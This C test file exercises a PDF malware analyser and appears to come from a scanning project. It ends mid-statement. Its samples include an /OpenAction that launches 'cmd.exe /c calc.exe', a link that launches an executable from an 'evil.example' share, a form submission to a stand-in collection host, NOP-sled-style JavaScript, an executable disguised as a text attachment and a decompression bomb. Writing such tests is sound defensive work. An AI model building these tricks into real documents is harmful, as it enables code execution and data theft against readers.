/*
 * test_pdf.c - the PDF analyser (src/objects/documents/pdf.c) on ClamAV's clam.pdf
 * (clam.exe as a file attachment) and on PDFs written here, one trick
 * each: /OpenAction JavaScript, /Launch cmd.exe, /AA with its script in a
 * Flate object stream, nested object streams, embedded .exe and .docm,
 * /URI links, #xx-escaped names, a wrong /Length, every prefix of a file,
 * a Flate bomb, an encrypted file; and clean PDFs, which yield nothing.
 *
 * The facts of an object are compared as one string, in the order they
 * were recorded: "SYMBOL(detail)|SYMBOL|...".
 */
#include "test_helpers.h"

#include <stdio.h>

#include <zlib.h>

#include "objects/filetype.h"
#include "objects/object.h"

#define CLAMAV_DIR "/usr/share/clamav-testfiles"
#define CLAM_MD5 "aa15bcf478d165efd2065190eb473bcb"
#define CLAM_SIZE 544

static struct obj_limits
limits(void)
{
	struct obj_limits l = {
		.depth = 12, .objects = 1000, .names = 10000, .object_bytes = 64ull << 20,
		.unpacked_bytes = 512ull << 20, .stream_bytes = 1ull << 30,
		.ratio = 0, .ratio_min = 16ull << 20, .padding_min = 4ull << 20,
		.deadline_us = 0, .mime = NULL,
	};
	return l;
}

static void
dump(const struct obj_tree *t)
{
	for (guint i = 0; i < t->all->len; i++) {
		const struct mobj *o = g_ptr_array_index(t->all, i);
		print_error("  %s type=%s size=%llu flags=%#x\n", o->path,
		    o->type != NULL ? o->type->name : "?", (unsigned long long)o->size, o->flags);
		for (guint k = 0; o->facts != NULL && k < o->facts->len; k++) {
			const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, k);
			print_error("    fact %s (%s)\n", obj_fact_name(f->id), f->detail != NULL ? f->detail : "-");
		}
		for (guint k = 0; o->urls != NULL && k < o->urls->len; k++)
			print_error("    url %s\n", (const char *)g_ptr_array_index(o->urls, k));
	}
}

/* "SYM(detail)|SYM|..." of o's facts; g_free it. */
static char *
facts(const struct mobj *o)
{
	GString *s = g_string_new(NULL);
	for (guint k = 0; o->facts != NULL && k < o->facts->len; k++) {
		const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, k);
		if (s->len > 0)
			g_string_append_c(s, '|');
		g_string_append(s, obj_fact_name(f->id));
		if (f->detail != NULL)
			g_string_append_printf(s, "(%s)", f->detail);
	}
	return g_string_free(s, FALSE);
}

/* "url|url|..." of o's URLs; g_free it. */
static char *
urls(const struct mobj *o)
{
	GString *s = g_string_new(NULL);
	for (guint k = 0; o->urls != NULL && k < o->urls->len; k++) {
		if (s->len > 0)
			g_string_append_c(s, '|');
		g_string_append(s, g_ptr_array_index(o->urls, k));
	}
	return g_string_free(s, FALSE);
}

static void
assert_facts(const struct obj_tree *t, const struct mobj *o, const char *want)
{
	char *got = facts(o);
	if (strcmp(got, want) != 0) {
		dump(t);
		print_error("facts got  \"%s\"\n      want \"%s\"\n", got, want);
		g_free(got);
		fail();
	}
	g_free(got);
}

static void
assert_urls(const struct obj_tree *t, const struct mobj *o, const char *want)
{
	char *got = urls(o);
	if (strcmp(got, want) != 0) {
		dump(t);
		print_error("urls got  \"%s\"\n     want \"%s\"\n", got, want);
		g_free(got);
		fail();
	}
	g_free(got);
}

static const struct mobj *
root(const struct obj_tree *t)
{
	assert_int_equal(t->roots->len, 1);
	const struct mobj *o = g_ptr_array_index(t->roots, 0);
	assert_non_null(o->type);
	assert_string_equal(o->type->name, "pdf");
	return o;
}

static const struct mobj *
child(const struct mobj *o, guint i)
{
	return g_ptr_array_index(o->children, i);
}

static bool
is_clam(const struct mobj *o)
{
	char md5[33];

	if (!o->hashed || o->size != CLAM_SIZE || o->type == NULL ||
	    strcmp(o->type->name, "pe") != 0)
		return false;
	obj_hex(o->md5, 16, md5);
	return strcmp(md5, CLAM_MD5) == 0;
}

static struct obj_tree *
build(const GString *pdf)
{
	struct obj_limits lim = limits();
	static struct obj_limits keep;
	keep = lim;
	return obj_tree_build_file("t.pdf", (const uint8_t *)pdf->str, pdf->len, &keep);
}

/* ---- writing PDFs ---- */

static GString *
pdf_new(void)
{
	GString *s = g_string_new("%PDF-1.7\n%\342\343\317\323\n");
	return s;
}

static void
pdf_obj(GString *s, int n, const char *body)
{
	g_string_append_printf(s, "%d 0 obj\n%s\nendobj\n", n, body);
}

static void
pdf_stream(GString *s, int n, const char *dict, const void *data, size_t len)
{
	g_string_append_printf(s, "%d 0 obj\n<< %s /Length %zu >>\nstream\n", n, dict, len);
	g_string_append_len(s, data, (gssize)len);
	g_string_append(s, "\nendstream\nendobj\n");
}

static void
pdf_end(GString *s)
{
	g_string_append(s, "trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n");
}

/* zlib's compress2; g_free the result. */
static uint8_t *
deflated(const void *p, size_t n, size_t *out)
{
	uLongf cap = compressBound((uLong)n);
	uint8_t *b = g_malloc(cap);
	assert_int_equal(compress2(b, &cap, p, (uLong)n, 9), Z_OK);
	*out = cap;
	return b;
}

static void
pdf_flate(GString *s, int n, const char *dict, const void *data, size_t len)
{
	size_t zn;
	uint8_t *z = deflated(data, len, &zn);
	char *d = g_strdup_printf("%s /Filter /FlateDecode", dict);
	pdf_stream(s, n, d, z, zn);
	g_free(d);
	g_free(z);
}

/*
 * The content of an object stream holding objects nums[i] with bodies
 * bodies[i] (7.5.7): "num off ..." then the objects; *first is /First.
 */
static GString *
objstm(const int *nums, const char *const *bodies, size_t n, size_t *first)
{
	GString *hdr = g_string_new(NULL), *objs = g_string_new(NULL);
	for (size_t i = 0; i < n; i++) {
		g_string_append_printf(hdr, "%d %zu ", nums[i], objs->len);
		g_string_append(objs, bodies[i]);
		g_string_append_c(objs, '\n');
	}
	*first = hdr->len;
	g_string_append_len(hdr, objs->str, (gssize)objs->len);
	g_string_free(objs, TRUE);
	return hdr;
}

/* A ZIP of stored entries (APPNOTE 4.3), for the .docm. */
static GByteArray *
zip_stored(const char *const *names, const char *const *data, size_t n)
{
	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();
	uint8_t h[46];
	for (size_t i = 0; i < n; i++) {
		size_t nl = strlen(names[i]), dl = strlen(data[i]);
		uint32_t crc = (uint32_t)crc32(0, (const Bytef *)data[i], (uInt)dl);
		uint32_t off = z->len;
		memset(h, 0, sizeof h);
		memcpy(h, "PK\3\4", 4);
		h[4] = 20;
		h[14] = crc & 0xff; h[15] = crc >> 8 & 0xff; h[16] = crc >> 16 & 0xff; h[17] = crc >> 24;
		for (int k = 0; k < 2; k++) {
			h[18 + 4 * k] = dl & 0xff;
			h[19 + 4 * k] = dl >> 8 & 0xff;
		}
		h[26] = (uint8_t)nl;
		g_byte_array_append(z, h, 30);
		g_byte_array_append(z, (const uint8_t *)names[i], (guint)nl);
		g_byte_array_append(z, (const uint8_t *)data[i], (guint)dl);
		memset(h, 0, sizeof h);
		memcpy(h, "PK\1\2", 4);
		h[4] = 20; h[6] = 20;
		h[16] = crc & 0xff; h[17] = crc >> 8 & 0xff; h[18] = crc >> 16 & 0xff; h[19] = crc >> 24;
		for (int k = 0; k < 2; k++) {
			h[20 + 4 * k] = dl & 0xff;
			h[21 + 4 * k] = dl >> 8 & 0xff;
		}
		h[28] = (uint8_t)nl;
		h[42] = off & 0xff; h[43] = off >> 8 & 0xff;
		g_byte_array_append(cd, h, 46);
		g_byte_array_append(cd, (const uint8_t *)names[i], (guint)nl);
	}
	uint32_t cdoff = z->len, cdlen = cd->len;
	g_byte_array_append(z, cd->data, cd->len);
	g_byte_array_free(cd, TRUE);
	uint8_t e[22] = { 'P', 'K', 5, 6 };
	e[8] = e[10] = (uint8_t)n;
	e[12] = cdlen & 0xff; e[13] = cdlen >> 8 & 0xff;
	e[16] = cdoff & 0xff; e[17] = cdoff >> 8 & 0xff;
	g_byte_array_append(z, e, 22);
	return z;
}

/* ---- the tests ---- */

/* clam.pdf: a FileAttachment annotation whose /Filespec (clam.exe) has
 * the 544 bytes of clam.exe unfiltered in /EF; a content stream whose
 * /Length is an indirect object. */
static void
test_clam_pdf(void **state)
{
	(void)state;
	if (!g_file_test(CLAMAV_DIR "/clam.pdf", G_FILE_TEST_EXISTS))
		skip();
	size_t n;
	uint8_t *b = test_load(CLAMAV_DIR "/clam.pdf", &n);
	struct obj_limits lim = limits();
	struct obj_tree *t = obj_tree_build_file("clam.pdf", b, n, &lim);
	const struct mobj *o = root(t);

	assert_facts(t, o, "PDF_EMBEDDED_FILE(clam.exe)");
	assert_urls(t, o, "");
	assert_int_equal(o->children->len, 1);
	assert_string_equal(child(o, 0)->path, "clam.pdf/clam.exe");
	assert_int_equal(child(o, 0)->origin, OBJ_FROM_EMBEDDED);
	assert_true(is_clam(child(o, 0)));
	assert_int_equal(child(o, 0)->flags, 0);
	obj_tree_free(t);
	g_free(b);
}

static void
test_openaction_js(void **state)
{
	(void)state;
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>");
	pdf_obj(s, 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pdf_obj(s, 3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>");
	pdf_obj(s, 5, "<< /Type /Action /S /JavaScript /JS (app.alert\\(\"hi\"\\);\n\n\t"
	    "   var x = 1; \\\\ \\101\\102) >>");
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_AUTO_ACTION(OpenAction: JavaScript)|"
	    "PDF_JAVASCRIPT(app.alert(\"hi\"); var x = 1; \\ AB)");
	assert_int_equal(o->children->len, 0);
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

static void
test_launch(void **state)
{
	(void)state;
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch "
	    "/Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>");
	pdf_obj(s, 2, "<< /Type /Pages /Kids [] /Count 0 >>");
	/* a launch of a remote file, in a link: not automatic */
	pdf_obj(s, 3, "<< /Type /Annot /Subtype /Link /A << /S /Launch "
	    "/F << /Type /Filespec /F (\\\\\\\\evil.example\\\\share\\\\run.exe) >> >> >>");
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_AUTO_ACTION(OpenAction: Launch)|PDF_LAUNCH(cmd.exe /c calc.exe)|"
	    "PDF_LAUNCH(\\\\evil.example\\share\\run.exe)");
	assert_urls(t, o, "\\\\evil.example\\share\\run.exe");
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* /AA on a page in a Flate object stream; the script in a Flate stream. */
static void
test_aa_objstm(void **state)
{
	(void)state;
	static const char js[] = "\n  this.submitForm(\"http://x.example/\")  ;\r\n"
	    "  var payload = unescape(\"%u9090%u9090\");\n";
	static const int nums[] = { 2, 3, 7 };
	static const char *const bodies[] = {
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /AA << /O 7 0 R /C << /S /GoTo /D [3 0 R /Fit] >> >> >>",
		"<< /S /JavaScript /JS 8 0 R >>",
	};
	size_t first;
	GString *os = objstm(nums, bodies, 3, &first);
	GString *s = pdf_new();
	char *d = g_strdup_printf("/Type /ObjStm /N 3 /First %zu", first);
	pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R >>");
	pdf_flate(s, 4, d, os->str, os->len);
	pdf_flate(s, 8, "", js, sizeof js - 1);
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_AUTO_ACTION(AA/O: JavaScript)|PDF_JAVASCRIPT(this.submitForm("
	    "\"http://x.example/\") ; var payload = unescape(\"%u9090%u9090\");)");
	obj_tree_free(t);
	g_string_free(s, TRUE);
	g_string_free(os, TRUE);
	g_free(d);
}

/* An object stream inside an object stream (not allowed by the spec,
 * read all the same), the inner one ASCIIHex over Flate. */
static void
test_nested_objstm(void **state)
{
	(void)state;
	static const int inner_nums[] = { 20 };
	static const char *const inner_bodies[] = {
		"<< /S /JavaScript /J#53 (deep\\n  inside) >>",
	};
	size_t first_in, first_out;
	GString *inner = objstm(inner_nums, inner_bodies, 1, &first_in);
	size_t zn;
	uint8_t *z = deflated(inner->str, inner->len, &zn);
	GString *hex = g_string_new(NULL);
	for (size_t i = 0; i < zn; i++)
		g_string_append_printf(hex, "%02X%s", z[i], i % 32 == 31 ? "\n" : "");
	g_string_append_c(hex, '>');
	GString *body = g_string_new(NULL);
	g_string_append_printf(body, "<< /Type /ObjStm /N 1 /First %zu /Filter "
	    "[/AHx /FlateDecode] /Length %zu >>\nstream\n%s\nendstream", first_in, hex->len, hex->str);
	static const int nums[] = { 10 };
	const char *bodies[] = { body->str };
	GString *outer = objstm(nums, bodies, 1, &first_out);
	GString *s = pdf_new();
	char *d = g_strdup_printf("/Type /ObjStm /N 1 /First %zu", first_out);
	pdf_obj(s, 1, "<< /Type /Catalog >>");
	pdf_flate(s, 4, d, outer->str, outer->len);
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_JAVASCRIPT(deep inside)");
	obj_tree_free(t);
	g_string_free(s, TRUE);
	g_string_free(outer, TRUE);
	g_string_free(body, TRUE);
	g_string_free(hex, TRUE);
	g_string_free(inner, TRUE);
	g_free(z);
	g_free(d);
}

static GString *
embedded_pdf(const uint8_t *exe, size_t exelen, const GByteArray *docm)
{
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Names << /EmbeddedFiles << /Names "
	    "[(invoice.exe) 5 0 R (report.docm) 7 0 R] >> >> >>");
	pdf_obj(s, 5, "<< /Type /Filespec /F (invoice.txt) /UF <FEFF0069006E0076006F006900630065002E006500780065> "
	    "/EF << /F 6 0 R >> >>");
	pdf_flate(s, 6, "/Type /EmbeddedFile", exe, exelen);
	pdf_obj(s, 7, "<< /Type /Filespec /F (report.docm) /EF << /F 8 0 R >> >>");
	pdf_stream(s, 8, "/Type /EmbeddedFile", docm->data, docm->len);
	pdf_end(s);
	return s;
}

static GByteArray *
docm(void)
{
	static const char *const names[] = {
		"[Content_Types].xml", "word/document.xml", "word/vbaProject.bin",
	};
	static const char *const data[] = {
		"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
		    "content-types\"><Override PartName=\"/word/document.xml\" ContentType=\""
		    "application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>",
		"<w:document/>",
		"not really a VBA project",
	};
	return zip_stored(names, data, 3);
}

static void
test_embedded(void **state)
{
	(void)state;
	if (!g_file_test(CLAMAV_DIR "/clam.exe", G_FILE_TEST_EXISTS))
		skip();
	size_t n;
	uint8_t *exe = test_load(CLAMAV_DIR "/clam.exe", &n);
	GByteArray *z = docm();
	GString *s = embedded_pdf(exe, n, z);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_EMBEDDED_FILE(invoice.exe)|PDF_EMBEDDED_FILE(report.docm)");
	assert_int_equal(o->children->len, 2);
	assert_string_equal(child(o, 0)->path, "t.pdf/invoice.exe");
	assert_true(is_clam(child(o, 0)));
	assert_string_equal(child(o, 1)->path, "t.pdf/report.docm");
	assert_string_equal(child(o, 1)->type->name, "docm");
	assert_int_equal(child(o, 1)->size, z->len);
	obj_tree_free(t);

	/* every prefix: no crash, and a clam.exe child is whole or flagged */
	struct obj_limits lim = limits();
	unsigned whole = 0, flagged = 0;
	for (size_t len = 0; len <= s->len; len++) {
		t = obj_tree_build_file("t.pdf", (const uint8_t *)s->str, len, &lim);
		for (guint i = 0; i < t->all->len; i++) {
			const struct mobj *c = g_ptr_array_index(t->all, i);
			if (c->parent == NULL || strcmp(c->name, "invoice.exe") != 0)
				continue;
			if (is_clam(c))
				whole++;
			else if (c->flags & (OBJ_DAMAGED | OBJ_TRUNCATED))
				flagged++;
			else {
				print_error("prefix %zu: a cut invoice.exe without a flag\n", len);
				dump(t);
				fail();
			}
		}
		obj_tree_free(t);
	}
	assert_true(whole > 0);
	assert_true(flagged > 0);
	g_string_free(s, TRUE);
	g_byte_array_free(z, TRUE);
	g_free(exe);
}

static void
test_urls(void **state)
{
	(void)state;
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >>");
	pdf_obj(s, 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pdf_obj(s, 3, "<< /Type /Page /Parent 2 0 R /Annots [4 0 R 5 0 R] >>");
	pdf_obj(s, 4, "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/a?b=1) >> >>");
	/* hex string, and the action through a reference */
	pdf_obj(s, 5, "<< /Type /Annot /Subtype /Link /A 6 0 R >>");
	pdf_obj(s, 6, "<< /S /URI /URI <687474703A2F2F6576696C2E6578616D706C652F78> >>");
	pdf_obj(s, 7, "<< /S /SubmitForm /F << /FS /URL /F (https://post.example/collect) >> >>");
	pdf_obj(s, 8, "<< /S /GoToR /F (\\\\\\\\files.example\\\\x.pdf) /D [0 /Fit] >>");
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "");
	assert_urls(t, o, "https://example.com/a?b=1|http://evil.example/x|"
	    "https://post.example/collect|\\\\files.example\\x.pdf");
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/*
 * URLs written in the pages' text: Tj, ' and " with a string, TJ with its
 * strings joined (kerning between them), escapes and hex strings decoded,
 * over a page's content streams (one plain, one FlateDecode); an inline
 * image's data and a stream that is no page's content are not text.
 */
static void
test_page_text(void **state)
{
	(void)state;
	static const char c1[] = "BT /F1 12 Tf 72 700 Td (Visit https://plain.example/a, then) Tj ET\n";
	static const char c2[] =
	    "q 10 0 0 10 0 0 cm BI /W 2 /H 2 /BPC 8 /CS /G ID (http://inline.example/ EI Q\n"
	    "BT /F1 12 Tf 72 680 Td [(ht) -20 (tps:\\057\\057kerned.example) 15 (/b)] TJ\n"
	    "0 -14 Td (\\(https://paren.example/c\\)) Tj T*\n"
	    "<68747470733A2F2F6865782E6578616D706C652F64> Tj\n"
	    "(https://quote.example/e) ' 1 2 (https://dquote.example/f) \" ET\n"
	    "% (https://comment.example/) Tj\n";
	static const char other[] = "BT (https://not-a-page.example/) Tj ET";
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R >>");
	pdf_obj(s, 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pdf_obj(s, 3, "<< /Type /Page /Parent 2 0 R /Contents [4 0 R 5 0 R] >>");
	pdf_stream(s, 4, "", c1, sizeof c1 - 1);
	pdf_flate(s, 5, "", c2, sizeof c2 - 1);
	pdf_stream(s, 6, "/Type /XObject /Subtype /Form", other, sizeof other - 1);
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "");
	assert_urls(t, o, "https://plain.example/a|https://kerned.example/b|"
	    "https://paren.example/c|https://hex.example/d|https://quote.example/e|"
	    "https://dquote.example/f");
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* At most 1 MiB of page text is read per document: a URL on a page after
 * 1.1 MiB of text is not found; the same page alone is. */
static void
test_page_text_cap(void **state)
{
	(void)state;
	GString *big = g_string_new("BT ");
	for (int i = 0; i < 17; i++) {
		g_string_append_c(big, '(');
		for (int k = 0; k < 65536; k++)
			g_string_append_c(big, 'a');
		g_string_append(big, ") Tj T* ");
	}
	g_string_append(big, "ET");
	static const char late[] = "BT (https://late.example/) Tj ET";
	for (int with_big = 0; with_big < 2; with_big++) {
		GString *s = pdf_new();
		pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R >>");
		pdf_obj(s, 2, "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>");
		pdf_obj(s, 3, "<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>");
		pdf_obj(s, 4, "<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>");
		if (with_big)
			pdf_flate(s, 5, "", big->str, big->len);
		else
			pdf_stream(s, 5, "", "BT ET", 5);
		pdf_stream(s, 6, "", late, sizeof late - 1);
		pdf_end(s);
		struct obj_tree *t = build(s);
		assert_urls(t, root(t), with_big ? "" : "https://late.example/");
		obj_tree_free(t);
		g_string_free(s, TRUE);
	}
	g_string_free(big, TRUE);
}

static void
test_escaped_names(void **state)
{
	(void)state;
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Open#41ction << /S /J#61va#53cript /J#53 (x\\(1\\)) >> >>");
	pdf_obj(s, 2, "<</S/L#61unch/F(calc.exe)>>");
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_AUTO_ACTION(OpenAction: JavaScript)|PDF_JAVASCRIPT(x(1))|"
	    "PDF_LAUNCH(calc.exe)");
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* A /Length that lies: the data ends at "endstream"; a correct indirect
 * /Length defined after its stream is no damage. */
static void
test_bad_length(void **state)
{
	(void)state;
	static const char js[] = "app.launchURL('http://x.example/');";
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Names << /JavaScript << /Names [(a) 2 0 R] >> >> >>");
	pdf_obj(s, 2, "<< /S /JavaScript /JS 3 0 R >>");
	g_string_append_printf(s, "3 0 obj\n<< /Length 5 >>\nstream\n%s\nendstream\nendobj\n", js);
	g_string_append_printf(s, "4 0 obj\n<< /Length 9 0 R >>\nstream\n%s\nendstream\nendobj\n", js);
	g_string_append_printf(s, "9 0 obj\n%zu\nendobj\n", sizeof js - 1);
	pdf_end(s);
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_JAVASCRIPT(app.launchURL('http://x.example/');)|"
	    "DOCUMENT_MALFORMED(1 stream(s) with a wrong /Length (first: object 3))");
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* 100 MB of zeros in 100 KB: stopped at the caps, quickly. */
static void
test_flate_bomb(void **state)
{
	(void)state;
	size_t n = 100u << 20, zn;
	uint8_t *zeros = g_malloc0(n);
	uint8_t *z = deflated(zeros, n, &zn);
	g_free(zeros);
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog >>");
	pdf_obj(s, 2, "<< /Type /Filespec /F (zeros.bin) /EF << /F 3 0 R >> >>");
	pdf_stream(s, 3, "/Type /EmbeddedFile /Filter /FlateDecode", z, zn);
	pdf_stream(s, 4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", z, zn);
	pdf_stream(s, 5, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", z, zn);
	pdf_end(s);
	gint64 t0 = g_get_monotonic_time();
	struct obj_tree *t = build(s);
	gint64 us = g_get_monotonic_time() - t0;
	const struct mobj *o = root(t);
	/* the object streams come first and take 16 MiB each: nothing is
	 * left for the embedded file, which is not carved */
	assert_facts(t, o, "PDF_EMBEDDED_FILE(zeros.bin)|DOCUMENT_MALFORMED(decoded streams cut "
	    "at 16 MiB each, 32 MiB in all (first: object 4): a decompression bomb?)");
	assert_int_equal(o->children->len, 0);
	obj_tree_free(t);

	/* alone, the embedded file is carved, cut at 16 MiB and flagged */
	g_string_truncate(s, 0);
	g_string_append(s, "%PDF-1.7\n");
	pdf_obj(s, 2, "<< /Type /Filespec /F (zeros.bin) /EF << /F 3 0 R >> >>");
	pdf_stream(s, 3, "/Type /EmbeddedFile /Filter /FlateDecode", z, zn);
	t = build(s);
	o = root(t);
	assert_facts(t, o, "PDF_EMBEDDED_FILE(zeros.bin)|DOCUMENT_MALFORMED(decoded streams cut "
	    "at 16 MiB each, 32 MiB in all (first: object 3): a decompression bomb?)");
	assert_int_equal(o->children->len, 1);
	assert_int_equal(child(o, 0)->size, 16u << 20);
	assert_int_equal(child(o, 0)->flags, OBJ_TRUNCATED | OBJ_PADDED);
	us = g_get_monotonic_time() - t0;
	assert_true(us < 5 * G_USEC_PER_SEC);
	obj_tree_free(t);
	g_string_free(s, TRUE);
	g_free(z);
}

/* /Encrypt: the keys are seen, the strings and streams are not read. */
static void
test_encrypted(void **state)
{
	(void)state;
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /OpenAction 2 0 R >>");
	pdf_obj(s, 2, "<< /S /JavaScript /JS <8a3f00c1d2e4> >>");
	pdf_obj(s, 3, "<< /Type /Filespec /F <99aabb> /EF << /F 4 0 R >> >>");
	pdf_stream(s, 4, "/Type /EmbeddedFile", "\x13\x37garbage", 9);
	pdf_obj(s, 5, "<< /Type /Annot /A << /S /URI /URI <0102ff> >> >>");
	pdf_obj(s, 9, "<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>");
	g_string_append(s, "trailer\n<< /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF\n");
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "PDF_AUTO_ACTION(OpenAction: JavaScript)|PDF_EMBEDDED_FILE(encrypted)|"
	    "PDF_JAVASCRIPT");
	assert_urls(t, o, "");
	assert_int_equal(o->children->len, 0);
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* A plain PDF as writers make it: catalog, pages, a Flate content
 * stream, a font, an outline, an xref table: nothing to say. */
static void
test_clean_generated(void **state)
{
	(void)state;
	static const char content[] = "BT /F1 24 Tf 72 720 Td (Hello, world) Tj ET\n";
	GString *s = pdf_new();
	pdf_obj(s, 1, "<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R "
	    "/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseNone >>");
	pdf_obj(s, 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pdf_obj(s, 3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
	    "/Resources << /Font << /F1 5 0 R >> /ProcSet [/PDF /Text] >> /Contents 4 0 R >>");
	pdf_flate(s, 4, "", content, sizeof content - 1);
	pdf_obj(s, 5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
	pdf_obj(s, 6, "<< /Title (Hello) /Producer (test_pdf.c) /CreationDate (D:20240101000000Z) >>");
	pdf_obj(s, 7, "<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>");
	pdf_obj(s, 8, "<< /Title (Page 1) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>");
	g_string_append(s, "xref\n0 9\n0000000000 65535 f \n");
	g_string_append(s, "trailer\n<< /Size 9 /Root 1 0 R /Info 6 0 R /ID [<0102> <0102>] >>\n"
	    "startxref\n0\n%%EOF\n");
	struct obj_tree *t = build(s);
	const struct mobj *o = root(t);
	assert_facts(t, o, "");
	assert_urls(t, o, "");
	assert_int_equal(o->children->len, 0);
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* Real PDFs from Debian's documentation, when they are installed. */
static void
test_clean_real(void **state)
{
	(void)state;
	static const char *const files[] = {
		"/usr/share/doc/shared-mime-info/shared-mime-info-spec.pdf",
		"/usr/share/doc/libtasn1-doc/libtasn1.pdf",
	};
	unsigned seen = 0;
	for (size_t i = 0; i < G_N_ELEMENTS(files); i++) {
		if (!g_file_test(files[i], G_FILE_TEST_EXISTS))
			continue;
		size_t n;
		uint8_t *b = test_load(files[i], &n);
		struct obj_limits lim = limits();
		struct obj_tree *t = obj_tree_build_file("doc.pdf", b, n, &lim);
		const struct mobj *o = root(t);
		assert_facts(t, o, "");
		assert_int_equal(o->children->len, 0);
		obj_tree_free(t);
		g_free(b);
		seen++;
	}
	if (seen == 0)
		skip();
}

/* Damage that must not loop or crash. */
static void
test_damage(void **state)
{
	(void)state;
	static const char *const cases[] = {
		"%PDF-1.4\n",
		"%PDF-1.4\n1 0 obj << /JS (unterminated",
		"%PDF-1.4\n1 0 obj [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
		"%PDF-1.4\n1 0 obj << /Length 99999999999999999999 >> stream\nabc",
		"%PDF-1.4\n1 0 obj << /Type /ObjStm /N 999999 /First 0 /Length 3 >> stream\n1 2\nendstream",
		"%PDF-1.4\n1 0 obj << /Length 1 0 R >> stream\nabc\nendstream endobj",
		"%PDF-1.4\n1 0 obj << /OpenAction 1 0 R /AA 1 0 R /Next 1 0 R /S /Launch /F 1 0 R >> endobj",
		"%PDF-1.4\n1 0 obj << /Filter /FlateDecode /Length 4 >> stream\nxxxx\nendstream endobj",
	};
	struct obj_limits lim = limits();
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		struct obj_tree *t = obj_tree_build_file("d.pdf", (const uint8_t *)cases[i],
		    strlen(cases[i]), &lim);
		root(t);
		obj_tree_free(t);
	}
	/* the first two say what is wrong */
	struct obj_tree *t = obj_tree_build_file("d.pdf", (const uint8_t *)cases[0],
	    strlen(cases[0]), &lim);
	assert_facts(t, root(t), "DOCUMENT_MALFORMED(no PDF objects)");
	obj_tree_free(t);
	t = obj_tree_build_file("d.pdf", (const uint8_t *)cases[3], strlen(cases[3]), &lim);
	assert_facts(t, root(t), "DOCUMENT_MALFORMED(stream without endstream: file cut?)");
	obj_tree_free(t);

	/* object stream members out of order: the second is not read */
	static const char data[] = "5 4 6 0 (a) << /JS (b) >>";
	char *p = g_strdup_printf("%%PDF-1.4\n1 0 obj << /Type /ObjStm /N 2 /First 8 /Length %zu >>"
	    " stream\n%s\nendstream endobj", sizeof data - 1, data);
	t = obj_tree_build_file("d.pdf", (const uint8_t *)p, strlen(p), &lim);
	assert_facts(t, root(t), "DOCUMENT_MALFORMED(object stream 1: offsets out of order)|"
